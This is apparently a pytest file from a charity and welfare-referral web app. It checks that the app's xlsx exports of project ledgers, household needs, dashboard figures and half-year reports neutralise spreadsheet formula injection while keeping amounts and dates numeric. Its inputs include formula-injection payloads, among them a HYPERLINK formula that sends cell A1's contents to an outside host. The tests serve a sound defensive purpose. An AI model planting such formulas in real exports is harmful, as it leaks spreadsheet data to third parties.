"""Every spreadsheet download keeps typed text from running as a formula.

Charities and stations type what the exports carry: organization and project names, project
texts and contacts, household members, illnesses, addresses, phones and consent scopes. Text
that a spreadsheet program would take for a formula (starting ``=``, ``+``, ``-``, ``@``, or a
tab or carriage return before one) must come out prefixed with ``'``, never as a formula,
while amounts, counts, ages and dates stay numbers and dates a user can add up and sort.
Checked here over HTTP, opening each downloaded file with openpyxl: the ledger edition, a
station's needs ledger, one dashboard figure and the half-year report.
"""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from flask.testing import FlaskClient
from openpyxl.cell.cell import Cell, MergedCell
from sqlalchemy.orm import Session

from models import User, clock, utcnow
from models.clock import period_of
from models.enums import Domain, Relation, Role, Urgency
from tests.helpers import DEMO_PASSWORD, bearer, credit_code, get_user
from web.services.households import HouseholdInput, MemberInput, add_need, create_household
from web.services.ledgers import build_edition
from web.services.organizations import register_organization, review_organization
from web.services.projects import ProjectInput, register_project, review_project, submit_project
from web.services.referrals.workflow import approve_referral, start_referral, submit_referral
from web.services.users import create_user

COUNTY = "440117000000"  # 从化区
VILLAGE = "440117103217"  # 新田村委会, served by station_a

#: Text a spreadsheet would run, each as a charity or station might type it.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x.cn","点我")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\x07=1+1",  # a control character a worksheet cannot hold: dropped, then the = is caught
)
ORGANIZATION = '=HYPERLINK("http://x.cn/?a="&A1,"荔乡慈善会")'
#: A carriage return comes back from the file as a line feed, so both count on reading.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def as_read(text: str) -> str:
    """How ``text`` reads from the downloaded file once neutralised."""
    return "'" + text.replace("\x07", "").replace("\r", "\n")


def cells_of(data: bytes) -> list[Cell | MergedCell]:
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas kept as formulas
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_nothing_runs(cells: list[Cell | MergedCell]) -> set[str]:
    """No cell is a formula or text that starts like one; returns the texts."""
    texts = set()
    for cell in cells:
        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)
            texts.add(cell.value)
    return texts


def row_where(data: bytes, **wanted: Any) -> dict[Any, Any]:
    """The first row of the first sheet whose columns (by header) hold ``wanted``."""
    rows = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)
    headers = next(rows)
    lines = [dict(zip(headers, row, strict=True)) for row in rows]
    return next(line for line in lines if all(line[k] == v for k, v in wanted.items()))


def formula_charity(db: Session) -> User:
    """A verified charity of 从化区 whose name is a formula; returns its staff account."""
    organization = register_organization(
        db, None, name=ORGANIZATION, uscc_code=credit_code(7), registered_region_code=COUNTY
    )
    review_organization(db, get_user(db, "ca_conghua"), organization.id, approve=True,
                        now=utcnow())  # fmt: skip
    staff = create_user(
        db, None, username="charity_formula", password=DEMO_PASSWORD, display_name="陈社工",
        role=Role.CHARITY_STAFF, region_code=COUNTY, organization_id=organization.id,
    )  # fmt: skip
    return staff


def verified_project(db: Session, staff: User, text: str, **numbers: Any) -> int:
    """A verified project of ``staff``'s charity with ``text`` in every text field."""
    today = utcnow().date()
    data = ProjectInput(
        name=text, description=text, contact_name=text, contact_phone=text,
        domains=[Domain.EMERGENCY.value], service_area=[COUNTY], quota=10,
        starts_on=today - dt.timedelta(days=1), ends_on=today + dt.timedelta(days=365),
        **numbers,
    )  # fmt: skip
    project = register_project(db, staff, data)
    submit_project(db, staff, project.id)
    review_project(db, get_user(db, "ca_conghua"), project.id, approve=True, now=utcnow())
    return project.id


def test_the_ledger_export_neutralises_formulas_and_keeps_amounts_numbers(
    client: FlaskClient, db: Session
) -> None:
    staff = formula_charity(db)
    for text in FORMULAS:
        verified_project(
            db, staff, text, amount_per_beneficiary_fen=150_050, budget_fen=10_000_000,
            max_income_per_head_fen=120_000, min_age=0, max_age=17,
        )  # fmt: skip
    now = utcnow()
    edition = build_edition(
        db, get_user(db, "ca_conghua"), COUNTY, period_of(clock.local_date(now)), now
    )
    db.commit()

    response = client.get(
        f"/api/v1/ledgers/{edition.edition.id}/export.xlsx", headers=bearer(client, "station_a")
    )
    assert response.status_code == 200
    texts = assert_nothing_runs(cells_of(response.data))
    assert as_read(ORGANIZATION) in texts
    assert {as_read(text) for text in FORMULAS} <= texts

    row = row_where(response.data, 项目名称=as_read("=1+1"))
    assert row["项目简介"] == row["联系人"] == row["联系电话"] == as_read("=1+1")
    assert row["每人帮扶金额（元）"] == 1500.5
    assert row["项目预算（元）"] == 100_000
    assert row["月人均收入上限（元）"] == 1200
    assert (row["最小年龄"], row["最大年龄"], row["名额"]) == (0, 17, 10)
    numbers = [row[h] for h in ("每人帮扶金额（元）", "项目预算（元）", "最小年龄", "名额")]
    assert all(isinstance(n, int | float) for n in numbers)
    assert isinstance(row["开始日期"], dt.datetime)
    # Ordinary text is left alone, a demo project's among it.
    assert "从化区急难救助“一事一议”" in texts


def test_the_needs_ledger_export_neutralises_formulas_and_keeps_amounts_numbers(
    client: FlaskClient, db: Session
) -> None:
    station_user = get_user(db, "station_a")
    members = [
        MemberInput(name=text, relation=Relation.HEAD if i == 0 else Relation.CHILD,
                    illness=text, birth_on=dt.date(1970 + i, 3, 1))
        for i, text in enumerate(FORMULAS)
    ]  # fmt: skip
    create_household(
        db, station_user,
        HouseholdInput(
            region_code=VILLAGE, address=FORMULAS[1], phone="+8613800138000",
            categories=["dibao"], income_per_head_fen=95_050, medical_expense_fen=1_200_000,
            consent_on=dt.date(2026, 3, 1), consent_scope=FORMULAS[5], members=members,
        ),
    )  # fmt: skip
    db.commit()

    response = client.get("/api/v1/households/export.xlsx", headers=bearer(client, "station_a"))
    assert response.status_code == 200
    texts = assert_nothing_runs(cells_of(response.data))
    assert {as_read(text) for text in FORMULAS} <= texts
    # The masked phone keeps its leading +, as text.
    assert "'+86*******8000" in texts

    head = row_where(response.data, 姓名=as_read("=1+1"), 与户主关系="户主")
    assert head["住址"] == as_read(FORMULAS[1])
    assert head["授权范围"] == as_read(FORMULAS[5])
    assert head["疾病"] == as_read("=1+1")
    assert head["月人均收入（元）"] == 950.5
    assert head["年医疗自付（元）"] == 12_000
    assert head["出生年份"] == 1970 and isinstance(head["授权日期"], dt.datetime)
    assert "钟伟明" in texts  # a demo member, unchanged


@pytest.fixture
def approved_referral(db: Session) -> None:
    """The formula-named charity has a referral of a 从化 household approved this half-year,
    so the charities' figures name it."""
    staff = formula_charity(db)
    project = verified_project(db, staff, "急难援助", amount_per_beneficiary_fen=300_000)
    station_user = get_user(db, "station_a")
    household = create_household(
        db, station_user,
        HouseholdInput(region_code=VILLAGE, consent_on=dt.date(2026, 3, 1),
                       members=[MemberInput(name="冯志坚", relation=Relation.HEAD)]),
    )  # fmt: skip
    need = add_need(db, station_user, household, domain=Domain.EMERGENCY, text="住院押金不足",
                    amount_gap_fen=300_000, urgency=Urgency.URGENT)  # fmt: skip
    referral = start_referral(db, station_user, need.id, project).id
    submit_referral(db, station_user, referral)
    approve_referral(db, get_user(db, "ca_conghua"), referral)
    db.commit()


@pytest.mark.usefixtures("approved_referral")
def test_the_charities_figure_neutralises_a_formula_name_and_keeps_counts_numbers(
    client: FlaskClient,
) -> None:
    response = client.get(
        f"/api/v1/stats/figure.xlsx?figure=charities&region_code={COUNTY}",
        headers=bearer(client, "ca_conghua"),
    )
    assert response.status_code == 200
    texts = assert_nothing_runs(cells_of(response.data))
    assert as_read(ORGANIZATION) in texts
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    line = next(r for r in sheet.iter_rows(values_only=True) if r[0] == as_read(ORGANIZATION))
    assert line[1:4] == (0, 0, 0)  # approved, not yet answered: numbers, not text
    assert all(isinstance(n, int) for n in line[1:4])


@pytest.mark.usefixtures("approved_referral")
def test_the_half_year_report_neutralises_a_formula_name_on_every_sheet(
    client: FlaskClient,
) -> None:
    period = period_of(clock.today())
    response = client.get(
        f"/api/v1/stats/report.xlsx?region_code={COUNTY}&period={period}",
        headers=bearer(client, "ca_conghua"),
    )
    assert response.status_code == 200
    cells = cells_of(response.data)
    assert_nothing_runs(cells)
    # The county's two charities sheets and 温泉镇's own page name the charity.
    sheets = {c.parent.title for c in cells if c.value == as_read(ORGANIZATION)}
    assert sheets == {"慈善组织接收率", "慈善组织帮扶记录", "温泉镇"}
    counts = [c.value for c in cells if c.parent.title == "转介漏斗" and c.column == 2][2:]
    assert counts and all(isinstance(n, int) for n in counts)
